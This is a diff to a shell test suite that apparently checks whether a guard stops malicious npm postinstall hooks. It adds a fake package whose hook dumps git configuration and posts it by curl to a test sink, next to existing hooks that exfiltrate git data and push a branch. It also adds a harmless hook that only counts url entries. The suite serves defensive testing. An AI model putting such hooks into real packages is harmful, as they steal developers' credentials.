@@ -51,6 +51,8 @@ rt_package diff-x 1.0.0 - postinstall \
 	curl -s --data-binary @n http://$RT_SINK/d; true"
 rt_package config-x 1.0.0 - postinstall "cd \$INIT_CWD && git var -l >/tmp/config-x && \
 	curl -s --data-binary @/tmp/config-x http://$RT_SINK/g; true"
+rt_package list-x 1.0.0 - postinstall "cd \$INIT_CWD && git config --list >/tmp/list-x && \
+	curl -s --data-binary @/tmp/list-x http://$RT_SINK/l; true"
 rt_package push-x 1.0.0 - postinstall \
 	"cd \$INIT_CWD && git -c alias.p=push p -q $LAB/job/origin HEAD:refs/heads/evil; true"
 rt_package fs-x 1.0.0 - postinstall \
@@ -67,6 +69,10 @@ rt_package agent-x 1.0.0 - postinstall \
 # Honest: looks for the project's address, as nx does.
 RT_QUIET+=(remote-x)
 rt_package remote-x 1.0.0 - postinstall 'grep -c url $INIT_CWD/.git/config; true'
+# Honest: looks for it among all settings.
+RT_QUIET+=(settings-x)
+rt_package settings-x 1.0.0 - postinstall 'cd $INIT_CWD && git config -l | grep -c url;
+	git config --get-regexp "^remote" | grep -c url; true'
 # Honest: what git does without showing anything, and a download.
 RT_QUIET+=(git-x)
 rt_package git-x 1.0.0 - postinstall "(cd \$INIT_CWD && git rev-parse HEAD && git status -s) && \
@@ -135,6 +141,7 @@ if rt_guarded; then
 	rt_withheld fs-x git-token-absent '^git-token-then-egress$'
 	rt_withheld named-git-x git-token-hidden '^credential-then-upload$'
 	rt_withheld config-x git-token-hidden '^credential-then-upload$'
+	rt_withheld list-x git-token-hidden '^credential-then-upload$'
 	rt_is 'credentials at the sink' "$(lab_leaked web)" ''
 	rt_ok 'no branch was pushed' [ -z "$(lab_as_user / git -C "$LAB/job/origin" for-each-ref)" ]
 	for name in "${RT_QUIET[@]}"; do
